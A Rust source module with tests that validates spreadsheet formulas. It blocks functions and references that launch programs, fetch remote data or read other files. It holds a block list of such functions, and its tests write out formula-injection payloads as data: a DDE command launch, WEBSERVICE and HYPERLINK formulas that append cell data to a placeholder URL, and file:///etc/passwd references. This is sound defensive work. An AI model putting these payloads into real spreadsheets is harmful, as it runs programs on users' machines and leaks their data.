//! Formulas that stay within their workbook: a formula is taken apart into its pieces, and each must
//! be one that is known to reach nothing. Not here: computing, and how formulas are written.

use crate::markdown::is_plain_link;

/// Functions that compute from what the workbook has. What is not among them is not written: a
/// function that nobody here knows may start a program or fetch a page.
const FUNCTIONS: &str = include_str!("functions.txt");
/// Functions that start programs, fetch what is elsewhere, or read what a text names. They are not
/// even named, since a function can be handed to another one.
const REACHING: [&str; 30] = [
    "CALL",
    "COPILOT",
    "CUBEKPIMEMBER",
    "CUBEMEMBER",
    "CUBEMEMBERPROPERTY",
    "CUBERANKEDMEMBER",
    "CUBESET",
    "CUBESETCOUNT",
    "CUBEVALUE",
    "DDE",
    "DETECTLANGUAGE",
    "EVALUATE",
    "EXEC",
    "FIELDVALUE",
    "FILTERXML",
    "IMAGE",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTHTML",
    "IMPORTRANGE",
    "IMPORTXML",
    "INDIRECT",
    "PY",
    "REGISTER",
    "REGISTER.ID",
    "RTD",
    "SQL.REQUEST",
    "STOCKHISTORY",
    "TRANSLATE",
    "WEBSERVICE",
];
/// What is written before functions that older programs do not know.
const PREFIXES: [&str; 5] = ["_XLFN.", "_XLWS.", "_XLUDF.", "_XLPM.", "ORG.OPENOFFICE."];
/// Longest formula in characters, and deepest brackets: what a spreadsheet reads.
const LETTERS_MAX: usize = 8_192;
const DEPTH_MAX: usize = 64;
/// Signs that formulas have beside names, numbers and texts.
const SIGNS: &str = "+-*/^&=<>(),;:%!@#{}";

/// A piece of a formula.
#[derive(Debug, Clone, PartialEq, Eq)]
enum FormulaToken {
    /// In double quotes.
    Text(String),
    /// In single quotes: the name of a sheet.
    Quoted(String),
    /// A name, number or cell.
    Word(String),
    Sign(char),
}

/// Why a formula is not written. `sheets` are the names of the sheets that there are.
pub(super) fn check_formula(formula: &str, sheets: &[&str]) -> Result<(), String> {
    let shown: String = formula.chars().filter(|c| !c.is_control()).take(60).collect();
    let Some(body) = formula.strip_prefix('=').filter(|body| !body.trim().is_empty()) else {
        return Err(format!("the formula {shown} does not begin with ="));
    };
    if body.chars().count() > LETTERS_MAX {
        return Err(format!("the formula is longer than {LETTERS_MAX} characters; split it"));
    }
    let tokens = split_tokens(body)?;
    check_brackets(&tokens)?;
    for at in 0..tokens.len() {
        check_token(&tokens, at, sheets)?;
    }
    Ok(())
}

fn split_tokens(body: &str) -> Result<Vec<FormulaToken>, String> {
    let mut tokens = Vec::new();
    let mut letters = body.chars().peekable();
    while let Some(c) = letters.next() {
        match c {
            '"' | '\'' => {
                let mut text = String::new();
                loop {
                    match letters.next() {
                        Some(end) if end == c && letters.peek() == Some(&c) => {
                            letters.next();
                            text.push(c);
                        }
                        Some(end) if end == c => break,
                        Some(inner) => text.push(inner),
                        None => return Err(format!("the formula has a {c} that is not closed")),
                    }
                }
                let is_text = c == '"';
                tokens.push(if is_text {
                    FormulaToken::Text(text)
                } else {
                    FormulaToken::Quoted(text)
                });
            }
            c if c.is_whitespace() => {}
            c if is_word_letter(c) => {
                let mut word = String::from(c);
                while let Some(next) = letters.next_if(|next| is_word_letter(*next)) {
                    word.push(next);
                }
                tokens.push(FormulaToken::Word(word));
            }
            '|' => return Err(starts_program()),
            '[' | ']' => return Err(names_workbook()),
            c if SIGNS.contains(c) => tokens.push(FormulaToken::Sign(c)),
            c => return Err(format!("the formula has the sign {c}, which no formula has")),
        }
    }
    Ok(tokens)
}

fn is_word_letter(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '.' | '$' | '?')
}

fn starts_program() -> String {
    "the formula would start a program (DDE, by its |), and is not written".into()
}

fn names_workbook() -> String {
    "the formula names another workbook or a table, which is not written; name cells of this one, \
     as Sheet2!A1"
        .into()
}

fn check_brackets(tokens: &[FormulaToken]) -> Result<(), String> {
    let mut open = Vec::new();
    for token in tokens {
        match token {
            FormulaToken::Sign('(') => open.push(')'),
            FormulaToken::Sign('{') => open.push('}'),
            FormulaToken::Sign(c @ (')' | '}')) if open.pop() != Some(*c) => {
                return Err("the brackets of the formula do not match".into());
            }
            _ => {}
        }
        if open.len() > DEPTH_MAX {
            return Err(format!("the formula is nested deeper than {DEPTH_MAX}; split it"));
        }
    }
    if open.is_empty() { Ok(()) } else { Err("a bracket of the formula is not closed".into()) }
}

fn check_token(tokens: &[FormulaToken], at: usize, sheets: &[&str]) -> Result<(), String> {
    let next = tokens.get(at + 1);
    match tokens.get(at) {
        Some(FormulaToken::Quoted(name)) => {
            if name.contains('|') {
                return Err(starts_program());
            }
            if name.contains(['[', ']', '\\', '/']) {
                return Err(names_workbook());
            }
            if next != Some(&FormulaToken::Sign('!')) {
                return Err(format!("'{name}' in the formula is no sheet with a cell after it"));
            }
            name.split(':').try_for_each(|name| require_sheet(name, sheets))
        }
        Some(FormulaToken::Word(word)) => match next {
            Some(FormulaToken::Sign('!')) if !is_error_name(tokens, at) => {
                require_sheet(word, sheets)
            }
            Some(FormulaToken::Sign('(')) => check_call(tokens, at, word),
            _ => refuse_reaching(&function_name(word), &["HYPERLINK"]),
        },
        // What is computed is not called: only a name can be looked up.
        Some(FormulaToken::Text(_)) if next == Some(&FormulaToken::Sign('(')) => {
            Err("a text in the formula stands before a bracket, as no function does".into())
        }
        _ => Ok(()),
    }
}

/// Whether a word before `!` is the end of an error, as in #REF! and #DIV/0!.
fn is_error_name(tokens: &[FormulaToken], at: usize) -> bool {
    let back = |steps: usize| at.checked_sub(steps).and_then(|at| tokens.get(at));
    let sign = Some(&FormulaToken::Sign('#'));
    let divided = matches!(tokens.get(at), Some(FormulaToken::Word(zero)) if zero == "0")
        && back(1) == Some(&FormulaToken::Sign('/'))
        && matches!(back(2), Some(FormulaToken::Word(word)) if word == "DIV");
    back(1) == sign || (divided && back(3) == sign)
}

fn require_sheet(name: &str, sheets: &[&str]) -> Result<(), String> {
    let name = name.trim_matches('$');
    if sheets.iter().any(|sheet| sheet.to_lowercase() == name.to_lowercase()) {
        return Ok(());
    }
    let shown: Vec<String> = sheets.iter().take(10).map(|sheet| format!("“{sheet}”")).collect();
    Err(format!(
        "the formula names “{name}”, which is no sheet here; there are {}",
        shown.join(", ")
    ))
}

/// In capitals, without what is written before newer functions.
fn function_name(word: &str) -> String {
    let mut name = word.to_uppercase();
    while let Some(rest) = PREFIXES.iter().find_map(|prefix| name.strip_prefix(prefix)) {
        name = rest.to_owned();
    }
    name
}

fn refuse_reaching(name: &str, more: &[&str]) -> Result<(), String> {
    if name == "INDIRECT" {
        return Err("INDIRECT reads what a text names, also outside the workbook, and is not \
                    written; use INDEX or OFFSET"
            .into());
    }
    if REACHING.contains(&name) || more.contains(&name) || name.starts_with("COM.SUN.") {
        return Err(format!("{name} reaches outside the workbook, and is not written"));
    }
    Ok(())
}

fn check_call(tokens: &[FormulaToken], at: usize, word: &str) -> Result<(), String> {
    let name = function_name(word);
    refuse_reaching(&name, &[])?;
    if name == "HYPERLINK" {
        return check_hyperlink(tokens.get(at + 2), tokens.get(at + 3));
    }
    if FUNCTIONS.split_whitespace().any(|known| known == name) {
        return Ok(());
    }
    // A name that LET or LAMBDA gives to something stands alone before it is called.
    let is_bound = tokens.iter().enumerate().any(|(other, token)| {
        matches!(token, FormulaToken::Word(bound) if function_name(bound) == name)
            && tokens.get(other + 1) == Some(&FormulaToken::Sign(','))
    });
    if is_bound {
        return Ok(());
    }
    Err(format!(
        "{name} is no function that is known to stay within the workbook, and is not written"
    ))
}

/// A link whose address is computed could carry cells away, and it could open files and programs.
fn check_hyperlink(
    address: Option<&FormulaToken>,
    after: Option<&FormulaToken>,
) -> Result<(), String> {
    let ends = matches!(after, Some(FormulaToken::Sign(',' | ')')));
    match address {
        Some(FormulaToken::Text(address)) if ends => {
            let is_inner = address.starts_with('#') && !address.contains(['|', '[', '\\']);
            if is_inner || is_plain_link(address) {
                return Ok(());
            }
            let shown: String = address.chars().filter(|c| !c.is_control()).take(80).collect();
            Err(format!(
                "HYPERLINK leads to {shown}, which is no http, https or mailto address and no cell \
                 as #Sheet1!A1"
            ))
        }
        _ => Err("HYPERLINK takes its address as one text in quotes: a computed one could carry \
                  cells away"
            .into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn k8_a_formula_of_this_workbook_is_written() {
        for fine in [
            "=SUM(A1:A9)",
            "=IF(A1>\"[x]|\",1,2)",
            "=Sheet2!A1*3",
            "='My data'!$A$1+SUM('My data'!B:B)",
            "= sum ( A1 , 2 )",
            "=IFERROR(VLOOKUP(A1,Sheet2!$A$1:$C$9,2,FALSE),#N/A)",
            "={1,2;3,4}*2",
            "=IF(A1,#REF!,#DIV/0!)",
            "=A1#",
            "=_xlfn.XLOOKUP(A1,B:B,C:C)",
            "=LET(x,A1*2,f,LAMBDA(y,y+1),f(x))",
            "=HYPERLINK(\"https://example.org\",\"Home\")",
            "=HYPERLINK(\"#Sheet2!A1\")",
            "=TEXT(A1,\"[$-409]mmm\")",
            "=\"it's \"\"so\"\"\"&A1",
            "=-A1%",
        ] {
            assert_eq!(check_formula(fine, &["Sheet2", "My data"]), Ok(()), "{fine}");
        }
    }

    #[test]
    fn k8_a_formula_reaches_nothing_outside() {
        for (bad, word) in [
            ("SUM(A1)", "begin"),
            ("=", "begin"),
            ("=cmd|'/c calc'!A0", "DDE"),
            ("='cmd|/c calc'!A0", "DDE"),
            ("=WEBSERVICE(\"https://example.org/\"&A1)", "WEBSERVICE"),
            ("=1+webservice(A1)", "WEBSERVICE"),
            ("=SUM(1,IF(A1,WEBSERVICE (A1),2))", "WEBSERVICE"),
            ("=WEBSERVICE\n(A1)", "WEBSERVICE"),
            ("=\"\"\"\"&WEBSERVICE(\"x\")", "WEBSERVICE"),
            ("=_xlfn._xlws.WEBSERVICE(A1)", "WEBSERVICE"),
            ("=MAP(A1:A9,WEBSERVICE)", "WEBSERVICE"),
            ("=LET(f,WEBSERVICE,f(A1))", "WEBSERVICE"),
            ("=COM.SUN.STAR.SHEET.ADDIN.X(A1)", "COM.SUN"),
            ("=_xlfn.IMAGE(\"https://example.org\")", "IMAGE"),
            ("=INDIRECT(\"'file:///x'#$S.A1\")", "INDEX"),
            ("='[other.xlsx]S'!A1", "another workbook"),
            ("=[1]S!A1", "another workbook"),
            ("='C:\\x\\y'!A1", "another workbook"),
            ("='file:///etc/passwd'#$S.A1", "another workbook"),
            ("='Other'#$S.A1", "no sheet with a cell"),
            ("=Other!A1", "no sheet here"),
            ("='Other'!A1", "no sheet here"),
            ("=HYPERLINK(\"javascript:alert(1)\")", "no http"),
            ("=HYPERLINK(\"file:///etc/passwd\",\"x\")", "no http"),
            ("=HYPERLINK(\"https://e.org/?d=\"&A1)", "one text"),
            ("=HYPERLINK(A1)", "one text"),
            ("=MAP(A1:A2,HYPERLINK)", "HYPERLINK"),
            ("=OWN(A1)", "no function"),
            ("=\"WEBSERVICE\"(A1)", "no function does"),
            ("=SUM(A1", "not closed"),
            ("=SUM(A1))", "do not match"),
            ("=\"open", "not closed"),
            ("=A1~B1", "sign ~"),
        ] {
            let said = check_formula(bad, &["S"]).expect_err(bad);
            assert!(said.contains(word), "{bad}: {said}");
        }
        let deep = format!("={}1{}", "(".repeat(100), ")".repeat(100));
        assert!(check_formula(&deep, &[]).is_err_and(|said| said.contains("nested")));
        let long = format!("=1{}", "+1".repeat(5_000));
        assert!(check_formula(&long, &[]).is_err_and(|said| said.contains("longer")));
    }
}
